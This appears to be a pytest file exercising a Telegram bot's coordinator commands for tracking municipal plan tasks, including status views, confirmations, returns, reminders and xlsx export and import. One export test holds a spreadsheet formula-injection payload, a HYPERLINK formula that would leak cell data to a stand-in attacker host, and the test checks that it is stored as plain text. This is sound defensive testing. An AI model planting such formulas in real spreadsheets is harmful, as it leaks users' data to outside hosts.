"""The coordinator's commands through the real dispatcher (recorded Bot API calls)."""

from __future__ import annotations

import html
import io
from datetime import date

from aiogram.methods import SendDocument, SendMessage
from openpyxl import load_workbook
from sqlmodel import select

from bot.core.status import MAX_REASON
from bot.storage.models import Assignment, Milestone, Outbox, StatusEvent, Task

from .conftest import COORDINATOR, FINANCE, LIAISON, STRANGER


def sent_to(sent, chat_id: int) -> list[str]:
    return [m.text for m in sent.messages if int(m.chat_id) == chat_id]


async def assignment(hc, key) -> Assignment:
    async with hc.ledger.session_maker() as s:
        return await s.get(Assignment, hc.ledger.assignments[key])


async def test_status_fits_one_screen_with_detail_buttons(hc):
    sent = await hc.send(COORDINATOR, "/status")
    assert len(sent.messages) == 1
    text = sent.text
    assert len(text) < 3500
    assert "SR-1" in text  # the most overdue item (due 2024-12-31)
    labels = [label for label, _ in sent.buttons()]
    assert len(labels) == 3 and "📊" in labels[2]  # the scorecard picture of the same scope
    overdue = await hc.press(COORDINATOR, sent.buttons()[0][1])
    assert any("SR-1" in c.text for c in overdue.calls if hasattr(c, "text") and c.text)
    ranked = await hc.press(COORDINATOR, sent.buttons()[1][1])
    ranked_text = " ".join(getattr(c, "text", "") or "" for c in ranked.calls)
    assert "市财政局" in ranked_text and "上饶市卫生健康委员会" in ranked_text


async def test_status_by_plan_unit_and_bad_scope(hc):
    assert "LN-1" not in (await hc.send(COORDINATOR, "/status SR")).text
    by_unit = await hc.send(COORDINATOR, "/status 上饶市财政局")
    assert "市财政局" in by_unit.text
    ambiguous = await hc.send(COORDINATOR, "/status 市卫健委")  # 上饶 or 龙南
    assert "上饶市卫生健康委员会" in ambiguous.text and "龙南市卫生健康委员会" in ambiguous.text
    assert len((await hc.send(COORDINATOR, "/status 不存在的局")).messages) == 1


async def test_everyone_else_gets_one_polite_line(hc):
    for command in ("/status", "/confirm SR-1", "/export", "/units", "/import"):
        sent = await hc.send(LIAISON, command)
        assert len(sent.messages) == 1, command
        assert "SR-1" not in sent.text and "市财政局" not in sent.text
    stranger = await hc.send(STRANGER, "/status")
    assert len(stranger.messages) == 1 and "SR" not in stranger.text


async def test_confirm_closes_and_tells_the_liaison(hc):
    await hc.send(LIAISON, "/report SR-2 已完成")
    sent = await hc.send(COORDINATOR, "/confirm sr-2")
    assert sent_to(sent, COORDINATOR) and "SR-2" in sent_to(sent, COORDINATOR)[0]
    assert len(sent_to(sent, LIAISON)) == 1 and "SR-2" in sent_to(sent, LIAISON)[0]
    a = await assignment(hc, ("SR-2", 0, "sr_health"))
    assert a.status == "closed" and a.closed_at is not None
    again = await hc.send(COORDINATOR, "/confirm SR-2")
    assert len(again.messages) == 1 and sent_to(again, LIAISON) == []


async def test_confirm_asks_which_unit_when_several_are_waiting(hc):
    await hc.send(LIAISON, "/report SR-1 已完成")
    await hc.send(FINANCE, "/report SR-1 done")
    sent = await hc.send(COORDINATOR, "/confirm SR-1")
    assert len(sent.buttons()) == 2
    data = sent.button("市财政局")
    picked = await hc.press(COORDINATOR, data)
    notices = sent_to(picked, FINANCE)
    assert len(notices) == 1 and "confirmed" in notices[0]  # 李四 reads English
    finance = await assignment(hc, ("SR-1", 0, "sr_finance"))
    health = await assignment(hc, ("SR-1", 0, "sr_health"))
    assert finance.status == "closed" and health.status == "done_reported"
    # naming the unit picks it directly
    direct = await hc.send(COORDINATOR, "/confirm SR-1 上饶市卫健委")
    assert sent.buttons() and not direct.buttons()
    assert (await assignment(hc, ("SR-1", 0, "sr_health"))).status == "closed"


async def test_return_needs_a_reason_and_reaches_the_unit(hc):
    await hc.send(LIAISON, "/report SR-2 已完成")
    no_reason = await hc.send(COORDINATOR, "/return SR-2")
    assert (await assignment(hc, ("SR-2", 0, "sr_health"))).status == "done_reported"
    assert len(no_reason.messages) == 1
    sent = await hc.send(COORDINATOR, "/return SR-2 佐证材料不全<b>")
    notice = sent_to(sent, LIAISON)
    assert len(notice) == 1 and "佐证材料不全&lt;b&gt;" in notice[0]
    a = await assignment(hc, ("SR-2", 0, "sr_health"))
    assert a.status == "in_progress" and a.done_reported_at is None
    async with hc.ledger.session_maker() as s:
        events = (await s.exec(select(StatusEvent).where(StatusEvent.kind == "return"))).all()
    assert [e.note for e in events] == ["佐证材料不全<b>"]


async def test_the_reason_reaches_the_liaison_exactly_as_typed(hc):
    """Full-width punctuation, ＡＢＣ letters and line breaks are the coordinator's words:
    only HTML escaping touches them, with or without a unit named."""
    reason = "材料不全，请补充：（盖章）！\n“附件２”；ＡＢＣ  <i>"
    for command in (f"/return SR-2 {reason}", f"/return SR-2 上饶市卫健委 {reason}"):
        await hc.send(LIAISON, "/report SR-2 已完成")
        sent = await hc.send(COORDINATOR, command)
        (notice,) = sent_to(sent, LIAISON)
        assert html.escape(reason, quote=False) in notice, notice
    async with hc.ledger.session_maker() as s:
        events = (await s.exec(select(StatusEvent).where(StatusEvent.kind == "return"))).all()
    assert [e.note for e in events] == [reason, reason]


async def test_a_returned_item_goes_back_to_the_last_progress_reported(hc):
    """退回 means the work is not finished: the 100% of the 已完成 report no longer stands. The
    progress goes back to the last percentage the liaison gave while working, or to none."""
    await hc.send(LIAISON, "/report SR-2 进行中 40%")
    await hc.send(LIAISON, "/report SR-2 有困难 60% 资金未到位")
    await hc.send(LIAISON, "/report SR-2 已完成")
    assert (await assignment(hc, ("SR-2", 0, "sr_health"))).progress == 100
    await hc.send(COORDINATOR, "/return SR-2 材料不全")
    a = await assignment(hc, ("SR-2", 0, "sr_health"))
    assert (a.status, a.progress) == ("in_progress", 60)
    card = await hc.send(LIAISON, "/task SR-2")
    assert "上饶市卫生健康委员会 (牵头) · 进行中 60%" in card.text
    # reported done again straight from 进行中 100%, returned again: still 60
    await hc.send(LIAISON, "/report SR-2 进行中 100%")
    await hc.send(COORDINATOR, "/return SR-2 仍缺材料")
    assert (await assignment(hc, ("SR-2", 0, "sr_health"))).progress == 60
    # never a percentage before 已完成: the progress is cleared, not kept at 100
    await hc.send(FINANCE, "/report SR-1 done")
    await hc.send(COORDINATOR, "/return SR-1 上饶市财政局 材料不全")
    a = await assignment(hc, ("SR-1", 0, "sr_finance"))
    assert (a.status, a.progress) == ("in_progress", None)


APOLOGY = "抱歉"  # the error handler's apology: the bot failed to answer


async def test_a_reason_too_long_to_tell_the_unit_is_refused_up_front(hc):
    await hc.send(LIAISON, "/report SR-2 已完成")
    for action in ("return", "deny"):
        too_long = "材料不全" * 1015  # the command fits one message, the notice would not
        sent = await hc.send(COORDINATOR, f"/{action} SR-2 {too_long}")
        assert sent_to(sent, LIAISON) == [] and hc.session.refused == []
        (line,) = sent_to(sent, COORDINATOR)
        assert "理由过长" in line and "4060" in line and str(MAX_REASON) in line, line
    a = await assignment(hc, ("SR-2", 0, "sr_health"))
    assert a.status == "done_reported"  # nothing changed
    async with hc.ledger.session_maker() as s:
        events = (await s.exec(select(StatusEvent).where(StatusEvent.kind == "return"))).all()
    assert events == []
    en = await hc.send(COORDINATOR, "/return SR-2 " + "x" * (MAX_REASON + 1), language_code="en")
    assert "too long" in en.text and str(MAX_REASON + 1) in en.text


async def test_the_longest_reason_reaches_the_unit_whatever_the_title(hc):
    """A reason at the limit and a very long task title: the notice arrives (in parts)."""
    async with hc.ledger.session_maker() as s:
        task = await s.get(Task, hc.ledger.tasks["SR-2"])
        task.title = "建设区域医疗中心" * 400
        s.add(task)
        await s.commit()
    await hc.send(LIAISON, "/report SR-2 已完成")
    reason = ("材料不全<b>&" * MAX_REASON)[:MAX_REASON]
    sent = await hc.send(COORDINATOR, f"/return SR-2 {reason}")
    assert hc.session.refused == [] and APOLOGY not in sent.text
    notice = "".join(sent_to(sent, LIAISON))
    assert html.escape(reason, quote=False) in notice.replace("\n", "")
    assert "已告知" in sent_to(sent, COORDINATOR)[-1]


async def test_the_coordinator_is_not_told_the_unit_knows_when_it_does_not(hc):
    await hc.send(LIAISON, "/report SR-2 已完成")
    hc.session.blocked.add(LIAISON)  # the unit's only liaison blocked the bot
    sent = await hc.send(COORDINATOR, "/return SR-2 材料不全")
    (line,) = sent_to(sent, COORDINATOR)
    assert "已告知" not in line and "未能通知" in line, line
    assert (await assignment(hc, ("SR-2", 0, "sr_health"))).status == "in_progress"
    hc.session.blocked.clear()
    await hc.send(LIAISON, "/report SR-2 申请延期 2026-03-31")
    hc.session.blocked.add(LIAISON)
    sent = await hc.send(COORDINATOR, "/deny SR-2 理由不充分", language_code="en")
    (line,) = sent_to(sent, COORDINATOR)
    assert "has been told" not in line and "could not" in line, line


async def test_return_with_several_units_asks_for_the_unit_in_words(hc):
    await hc.send(LIAISON, "/report SR-1 已完成")
    await hc.send(FINANCE, "/report SR-1 done")
    sent = await hc.send(COORDINATOR, "/return SR-1 材料不全")
    assert not sent.buttons() and "市财政局" in sent.text and "上饶市卫生健康委员会" in sent.text
    sent = await hc.send(COORDINATOR, "/return SR-1 市财政局 材料不全")
    assert (await assignment(hc, ("SR-1", 0, "sr_finance"))).status == "in_progress"
    assert (await assignment(hc, ("SR-1", 0, "sr_health"))).status == "done_reported"


async def test_approve_moves_due_but_keeps_the_original(hc):
    await hc.send(LIAISON, "/report SR-2 申请延期 2026-03-31")
    sent = await hc.send(COORDINATOR, "/approve SR-2")
    assert "SR-2" in sent_to(sent, LIAISON)[0]
    a = await assignment(hc, ("SR-2", 0, "sr_health"))
    assert a.due == date(2026, 3, 31) and a.extension_requested_to is None
    async with hc.ledger.session_maker() as s:
        m = await s.get(Milestone, a.milestone_id)
    assert m.original_due == date(2026, 1, 10)
    nothing = await hc.send(COORDINATOR, "/approve SR-2")
    assert len(nothing.messages) == 1 and sent_to(nothing, LIAISON) == []


async def test_deny_keeps_due_and_tells_why(hc):
    await hc.send(LIAISON, "/report SR-2 申请延期 2026-03-31")
    sent = await hc.send(COORDINATOR, "/deny SR-2 理由不充分")
    assert "理由不充分" in sent_to(sent, LIAISON)[0]
    a = await assignment(hc, ("SR-2", 0, "sr_health"))
    assert a.due == date(2026, 1, 10) and a.extension_requested_to is None


async def test_remind_queues_a_chase_per_liaison(hc):
    sent = await hc.send(COORDINATOR, "/remind SR-2 请尽快报送")
    assert len(sent.messages) == 1 and sent_to(sent, LIAISON) == []  # the sender delivers it
    async with hc.ledger.session_maker() as s:
        rows = (await s.exec(select(Outbox))).all()
        events = (await s.exec(select(StatusEvent).where(StatusEvent.kind == "remind"))).all()
    assert len(rows) == 1
    row = rows[0]
    aid = hc.ledger.assignments[("SR-2", 0, "sr_health")]
    assert row.kind == "chase" and row.chat_id == LIAISON and row.assignment_id == aid
    assert row.key.startswith(f"chase:{aid}:20251220010000")
    assert row.payload["ref"] == "SR-2" and row.payload["note"] == "请尽快报送"
    assert len(events) == 1
    # SR-1: both units open → buttons
    several = await hc.send(COORDINATOR, "/remind SR-1")
    assert len(several.buttons()) == 2
    # a unit without a liaison is refused with one line
    alone = await hc.send(COORDINATOR, "/remind LN-1")
    assert len(alone.messages) == 1


async def test_bad_arguments_get_one_line(hc):
    for command in (
        "/confirm",
        "/return",
        "/approve",
        "/deny",
        "/remind",
        "/unit",
        "/confirm XX-9",
        "/confirm SR-2 上饶市财政局",
    ):
        sent = await hc.send(COORDINATOR, command)
        assert len(sent.messages) == 1, command


async def test_overdue_unit_plans_units(hc):
    overdue = await hc.send(COORDINATOR, "/overdue")
    assert "SR-1" in overdue.text
    unit = await hc.send(COORDINATOR, "/unit 上饶市财政局")
    assert "李四" in unit.text
    plans = await hc.send(COORDINATOR, "/plans")
    assert "SR" in plans.text and "LN" in plans.text
    units = await hc.send(COORDINATOR, "/units")
    assert "⚠️" in units.text  # 龙南's 市卫健委 has no liaison


async def test_export_sends_the_ledger(hc):
    await hc.send(LIAISON, "/report SR-2 进行中 40% 已完成土建\x00招标")
    sent = await hc.send(COORDINATOR, "/export")
    docs = [c for c in sent.calls if isinstance(c, SendDocument)]
    assert len(docs) == 1
    doc = docs[0].document
    assert doc.filename == "台账-全部规划-20251220.xlsx"
    wb = load_workbook(io.BytesIO(doc.data))
    ws = wb.active
    assert ws.max_row == 1 + 6  # six assignments in the ledger
    assert ws.freeze_panes == "A2" and ws.auto_filter.ref
    notes = [c.value for c in ws["M"][1:] if c.value]
    assert any("已完成土建" in n and "\x00" not in n for n in notes)
    en = await hc.send(COORDINATOR, "/export SR", language_code="en")
    en_doc = next(c for c in en.calls if isinstance(c, SendDocument)).document
    assert en_doc.filename == "Ledger-SR-20251220.xlsx"
    data = en_doc.data
    wb = load_workbook(io.BytesIO(data))
    assert wb.active["A1"].value == "Plan" and wb.active.max_row == 1 + 5


async def test_export_names_its_scope_and_leaves_closed_items_without_days_late(hc):
    sent = await hc.send(COORDINATOR, "/export 上饶市财政局")
    doc = next(c for c in sent.calls if isinstance(c, SendDocument)).document
    assert doc.filename == "台账-市财政局-20251220.xlsx"
    # SR-1 is overdue for both units; 市卫健委's is closed (办结): no days late any more
    await hc.send(LIAISON, "/report SR-1 已完成")
    await hc.send(COORDINATOR, "/confirm SR-1 上饶市卫健委")
    sent = await hc.send(COORDINATOR, "/export SR")
    doc = next(c for c in sent.calls if isinstance(c, SendDocument)).document
    ws = load_workbook(io.BytesIO(doc.data)).active
    late = {
        (row[1].value, row[4].value, row[7].value.date()): row[13].value
        for row in ws.iter_rows(min_row=2)
    }
    assert late[("SR-1", "上饶市卫生健康委员会", date(2024, 12, 31))] is None  # shared short name
    assert late[("SR-1", "市财政局", date(2024, 12, 31))] > 0


async def test_export_writes_what_people_typed_as_text(hc):
    """A liaison's Telegram name and note that look like formulas reach the sheet as text."""
    name = '=HYPERLINK("http://evil.example/?"&A2,"点此")'
    await hc.ledger.person(300, name, role="liaison", unit="ln_health")  # its only one
    await hc.send(LIAISON, "/report SR-2 进行中 40% =1+1")
    sent = await hc.send(COORDINATOR, "/export")
    data = next(c for c in sent.calls if isinstance(c, SendDocument)).document.data
    ws = load_workbook(io.BytesIO(data)).active
    cells = [c for row in ws.iter_rows(min_row=2) for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    liaisons = [c for c in ws["F"][1:] if c.value == name]
    notes = [c for c in ws["M"][1:] if c.value == "=1+1"]
    assert liaisons and notes
    assert all(c.data_type == "s" for c in liaisons + notes)


PLAN = """关于推进测试工作的实施意见

一、重点任务
（一）建设测试中心。到2026年底，建成测试中心。（责任单位：市财政局）
（二）完善测试机制。2027年6月底前完善机制。（责任单位：市卫健委）
"""


async def test_import_flow_confirm_and_cancel(hc):
    hc.session.files["DOC-1"] = PLAN.encode("utf-8")
    sent = await hc.send(COORDINATOR, "/import TS")
    assert len(sent.messages) == 1
    summary = await hc.send(COORDINATOR, document=("plan.txt", len(PLAN.encode())))
    assert "TS" in summary.text and len(summary.buttons()) == 5
    confirm = summary.button("确认导入")
    loaded = await hc.press(COORDINATOR, confirm)
    assert any("TS" in (getattr(c, "text", "") or "") for c in loaded.calls)
    assert (hc.settings.data.tasks_data / "plans" / "ts.yaml").is_file()
    status = await hc.send(COORDINATOR, "/status TS")
    assert "TS" in status.text
    expired = await hc.press(COORDINATOR, confirm)
    assert expired.alerts and expired.alerts[0]
    # cancel discards; an unsupported file gets one line
    caption = await hc.send(COORDINATOR, caption="/import TT", document=("plan.txt", 10))
    cancel = caption.button("取消")
    await hc.press(COORDINATOR, cancel)
    assert not (hc.settings.data.tasks_data / "plans" / "tt.yaml").exists()
    bad = await hc.send(COORDINATOR, caption="/import", document=("plan.pdf", 10))
    assert len(bad.messages) == 1 and not bad.buttons()
    big = await hc.send(COORDINATOR, caption="/import", document=("plan.docx", 50 * 2**20))
    assert len(big.messages) == 1 and not big.buttons()


async def test_messages_are_sent_as_html_under_the_limit(hc):
    sent = await hc.send(COORDINATOR, "/status")
    assert all(isinstance(m, SendMessage) and len(m.text) < 4096 for m in sent.messages)
